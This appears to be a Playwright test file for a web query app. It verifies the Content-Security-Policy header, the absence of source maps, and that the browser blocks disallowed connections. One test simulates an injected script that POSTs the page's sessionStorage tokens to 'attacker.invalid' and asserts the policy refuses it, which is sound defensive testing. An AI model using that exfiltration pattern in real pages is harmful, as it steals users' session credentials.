import { expect, test } from '@playwright/test';
import { recordsText } from '../src/testing/selectors';
import { policyViolations, recordPolicyViolations, type PolicyViolation } from './support/csp';
import { resultGrid, resultStatus, runQuery, signIn, waitForEditor } from './support/session';

test('the page is served with a strict policy that names the authority and the cluster', async ({ page }) => {
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).toMatch(/connect-src [^;]*https:\/\/localhost:9443/);
  expect(policy).toMatch(/connect-src [^;]*https:\/\/localhost:8443/);
  expect(policy).not.toMatch(/unsafe-eval/);
});

test('the build publishes no source maps', async ({ page, request }) => {
  await page.goto('/');
  const scripts = await page.locator('script[src]').evaluateAll((els) => els.map((e) => (e as HTMLScriptElement).src));
  expect(scripts.length).toBeGreaterThan(0);
  for (const src of scripts) {
    const body = await (await request.get(src)).text();
    expect(body.length).toBeGreaterThan(1000);
    expect(body).not.toContain('sourceMappingURL');
  }
});

test('the browser refuses a request to a host the policy does not list, and the app works within it', async ({ page }) => {
  await recordPolicyViolations(page);
  await signIn(page);
  await waitForEditor(page);
  await runQuery(page, 'StormEvents | take 3 | project State, EventType');
  await expect(resultStatus(page)).toHaveText(recordsText(3));
  await expect(resultGrid(page).getByRole('columnheader')).toHaveText(['State', 'EventType']);
  // Sign-in, the editor and its language worker, the decode worker: nothing was refused.
  expect(await policyViolations(page)).toEqual([]);

  // What an injected script would try: send the session's tokens elsewhere.
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<PolicyViolation>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve({ blockedURI: e.blockedURI, effectiveDirective: e.effectiveDirective }), { once: true });
    });
    const sent = await fetch('https://attacker.invalid/collect', { method: 'POST', body: JSON.stringify(sessionStorage) })
      .then(() => 'sent', (e: unknown) => `refused: ${String(e)}`);
    return { sent, violation: await violation };
  });
  expect(outcome.sent).toMatch(/^refused/);
  expect(outcome.violation).toEqual({ blockedURI: 'https://attacker.invalid/collect', effectiveDirective: 'connect-src' });

  // Plain http to the cluster's own host is refused too: a token never travels in clear text.
  const cleartext = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
    });
    await fetch('http://localhost:8443/v1/rest/auth/metadata').catch(() => undefined);
    return violation;
  });
  expect(cleartext).toBe('connect-src');
});
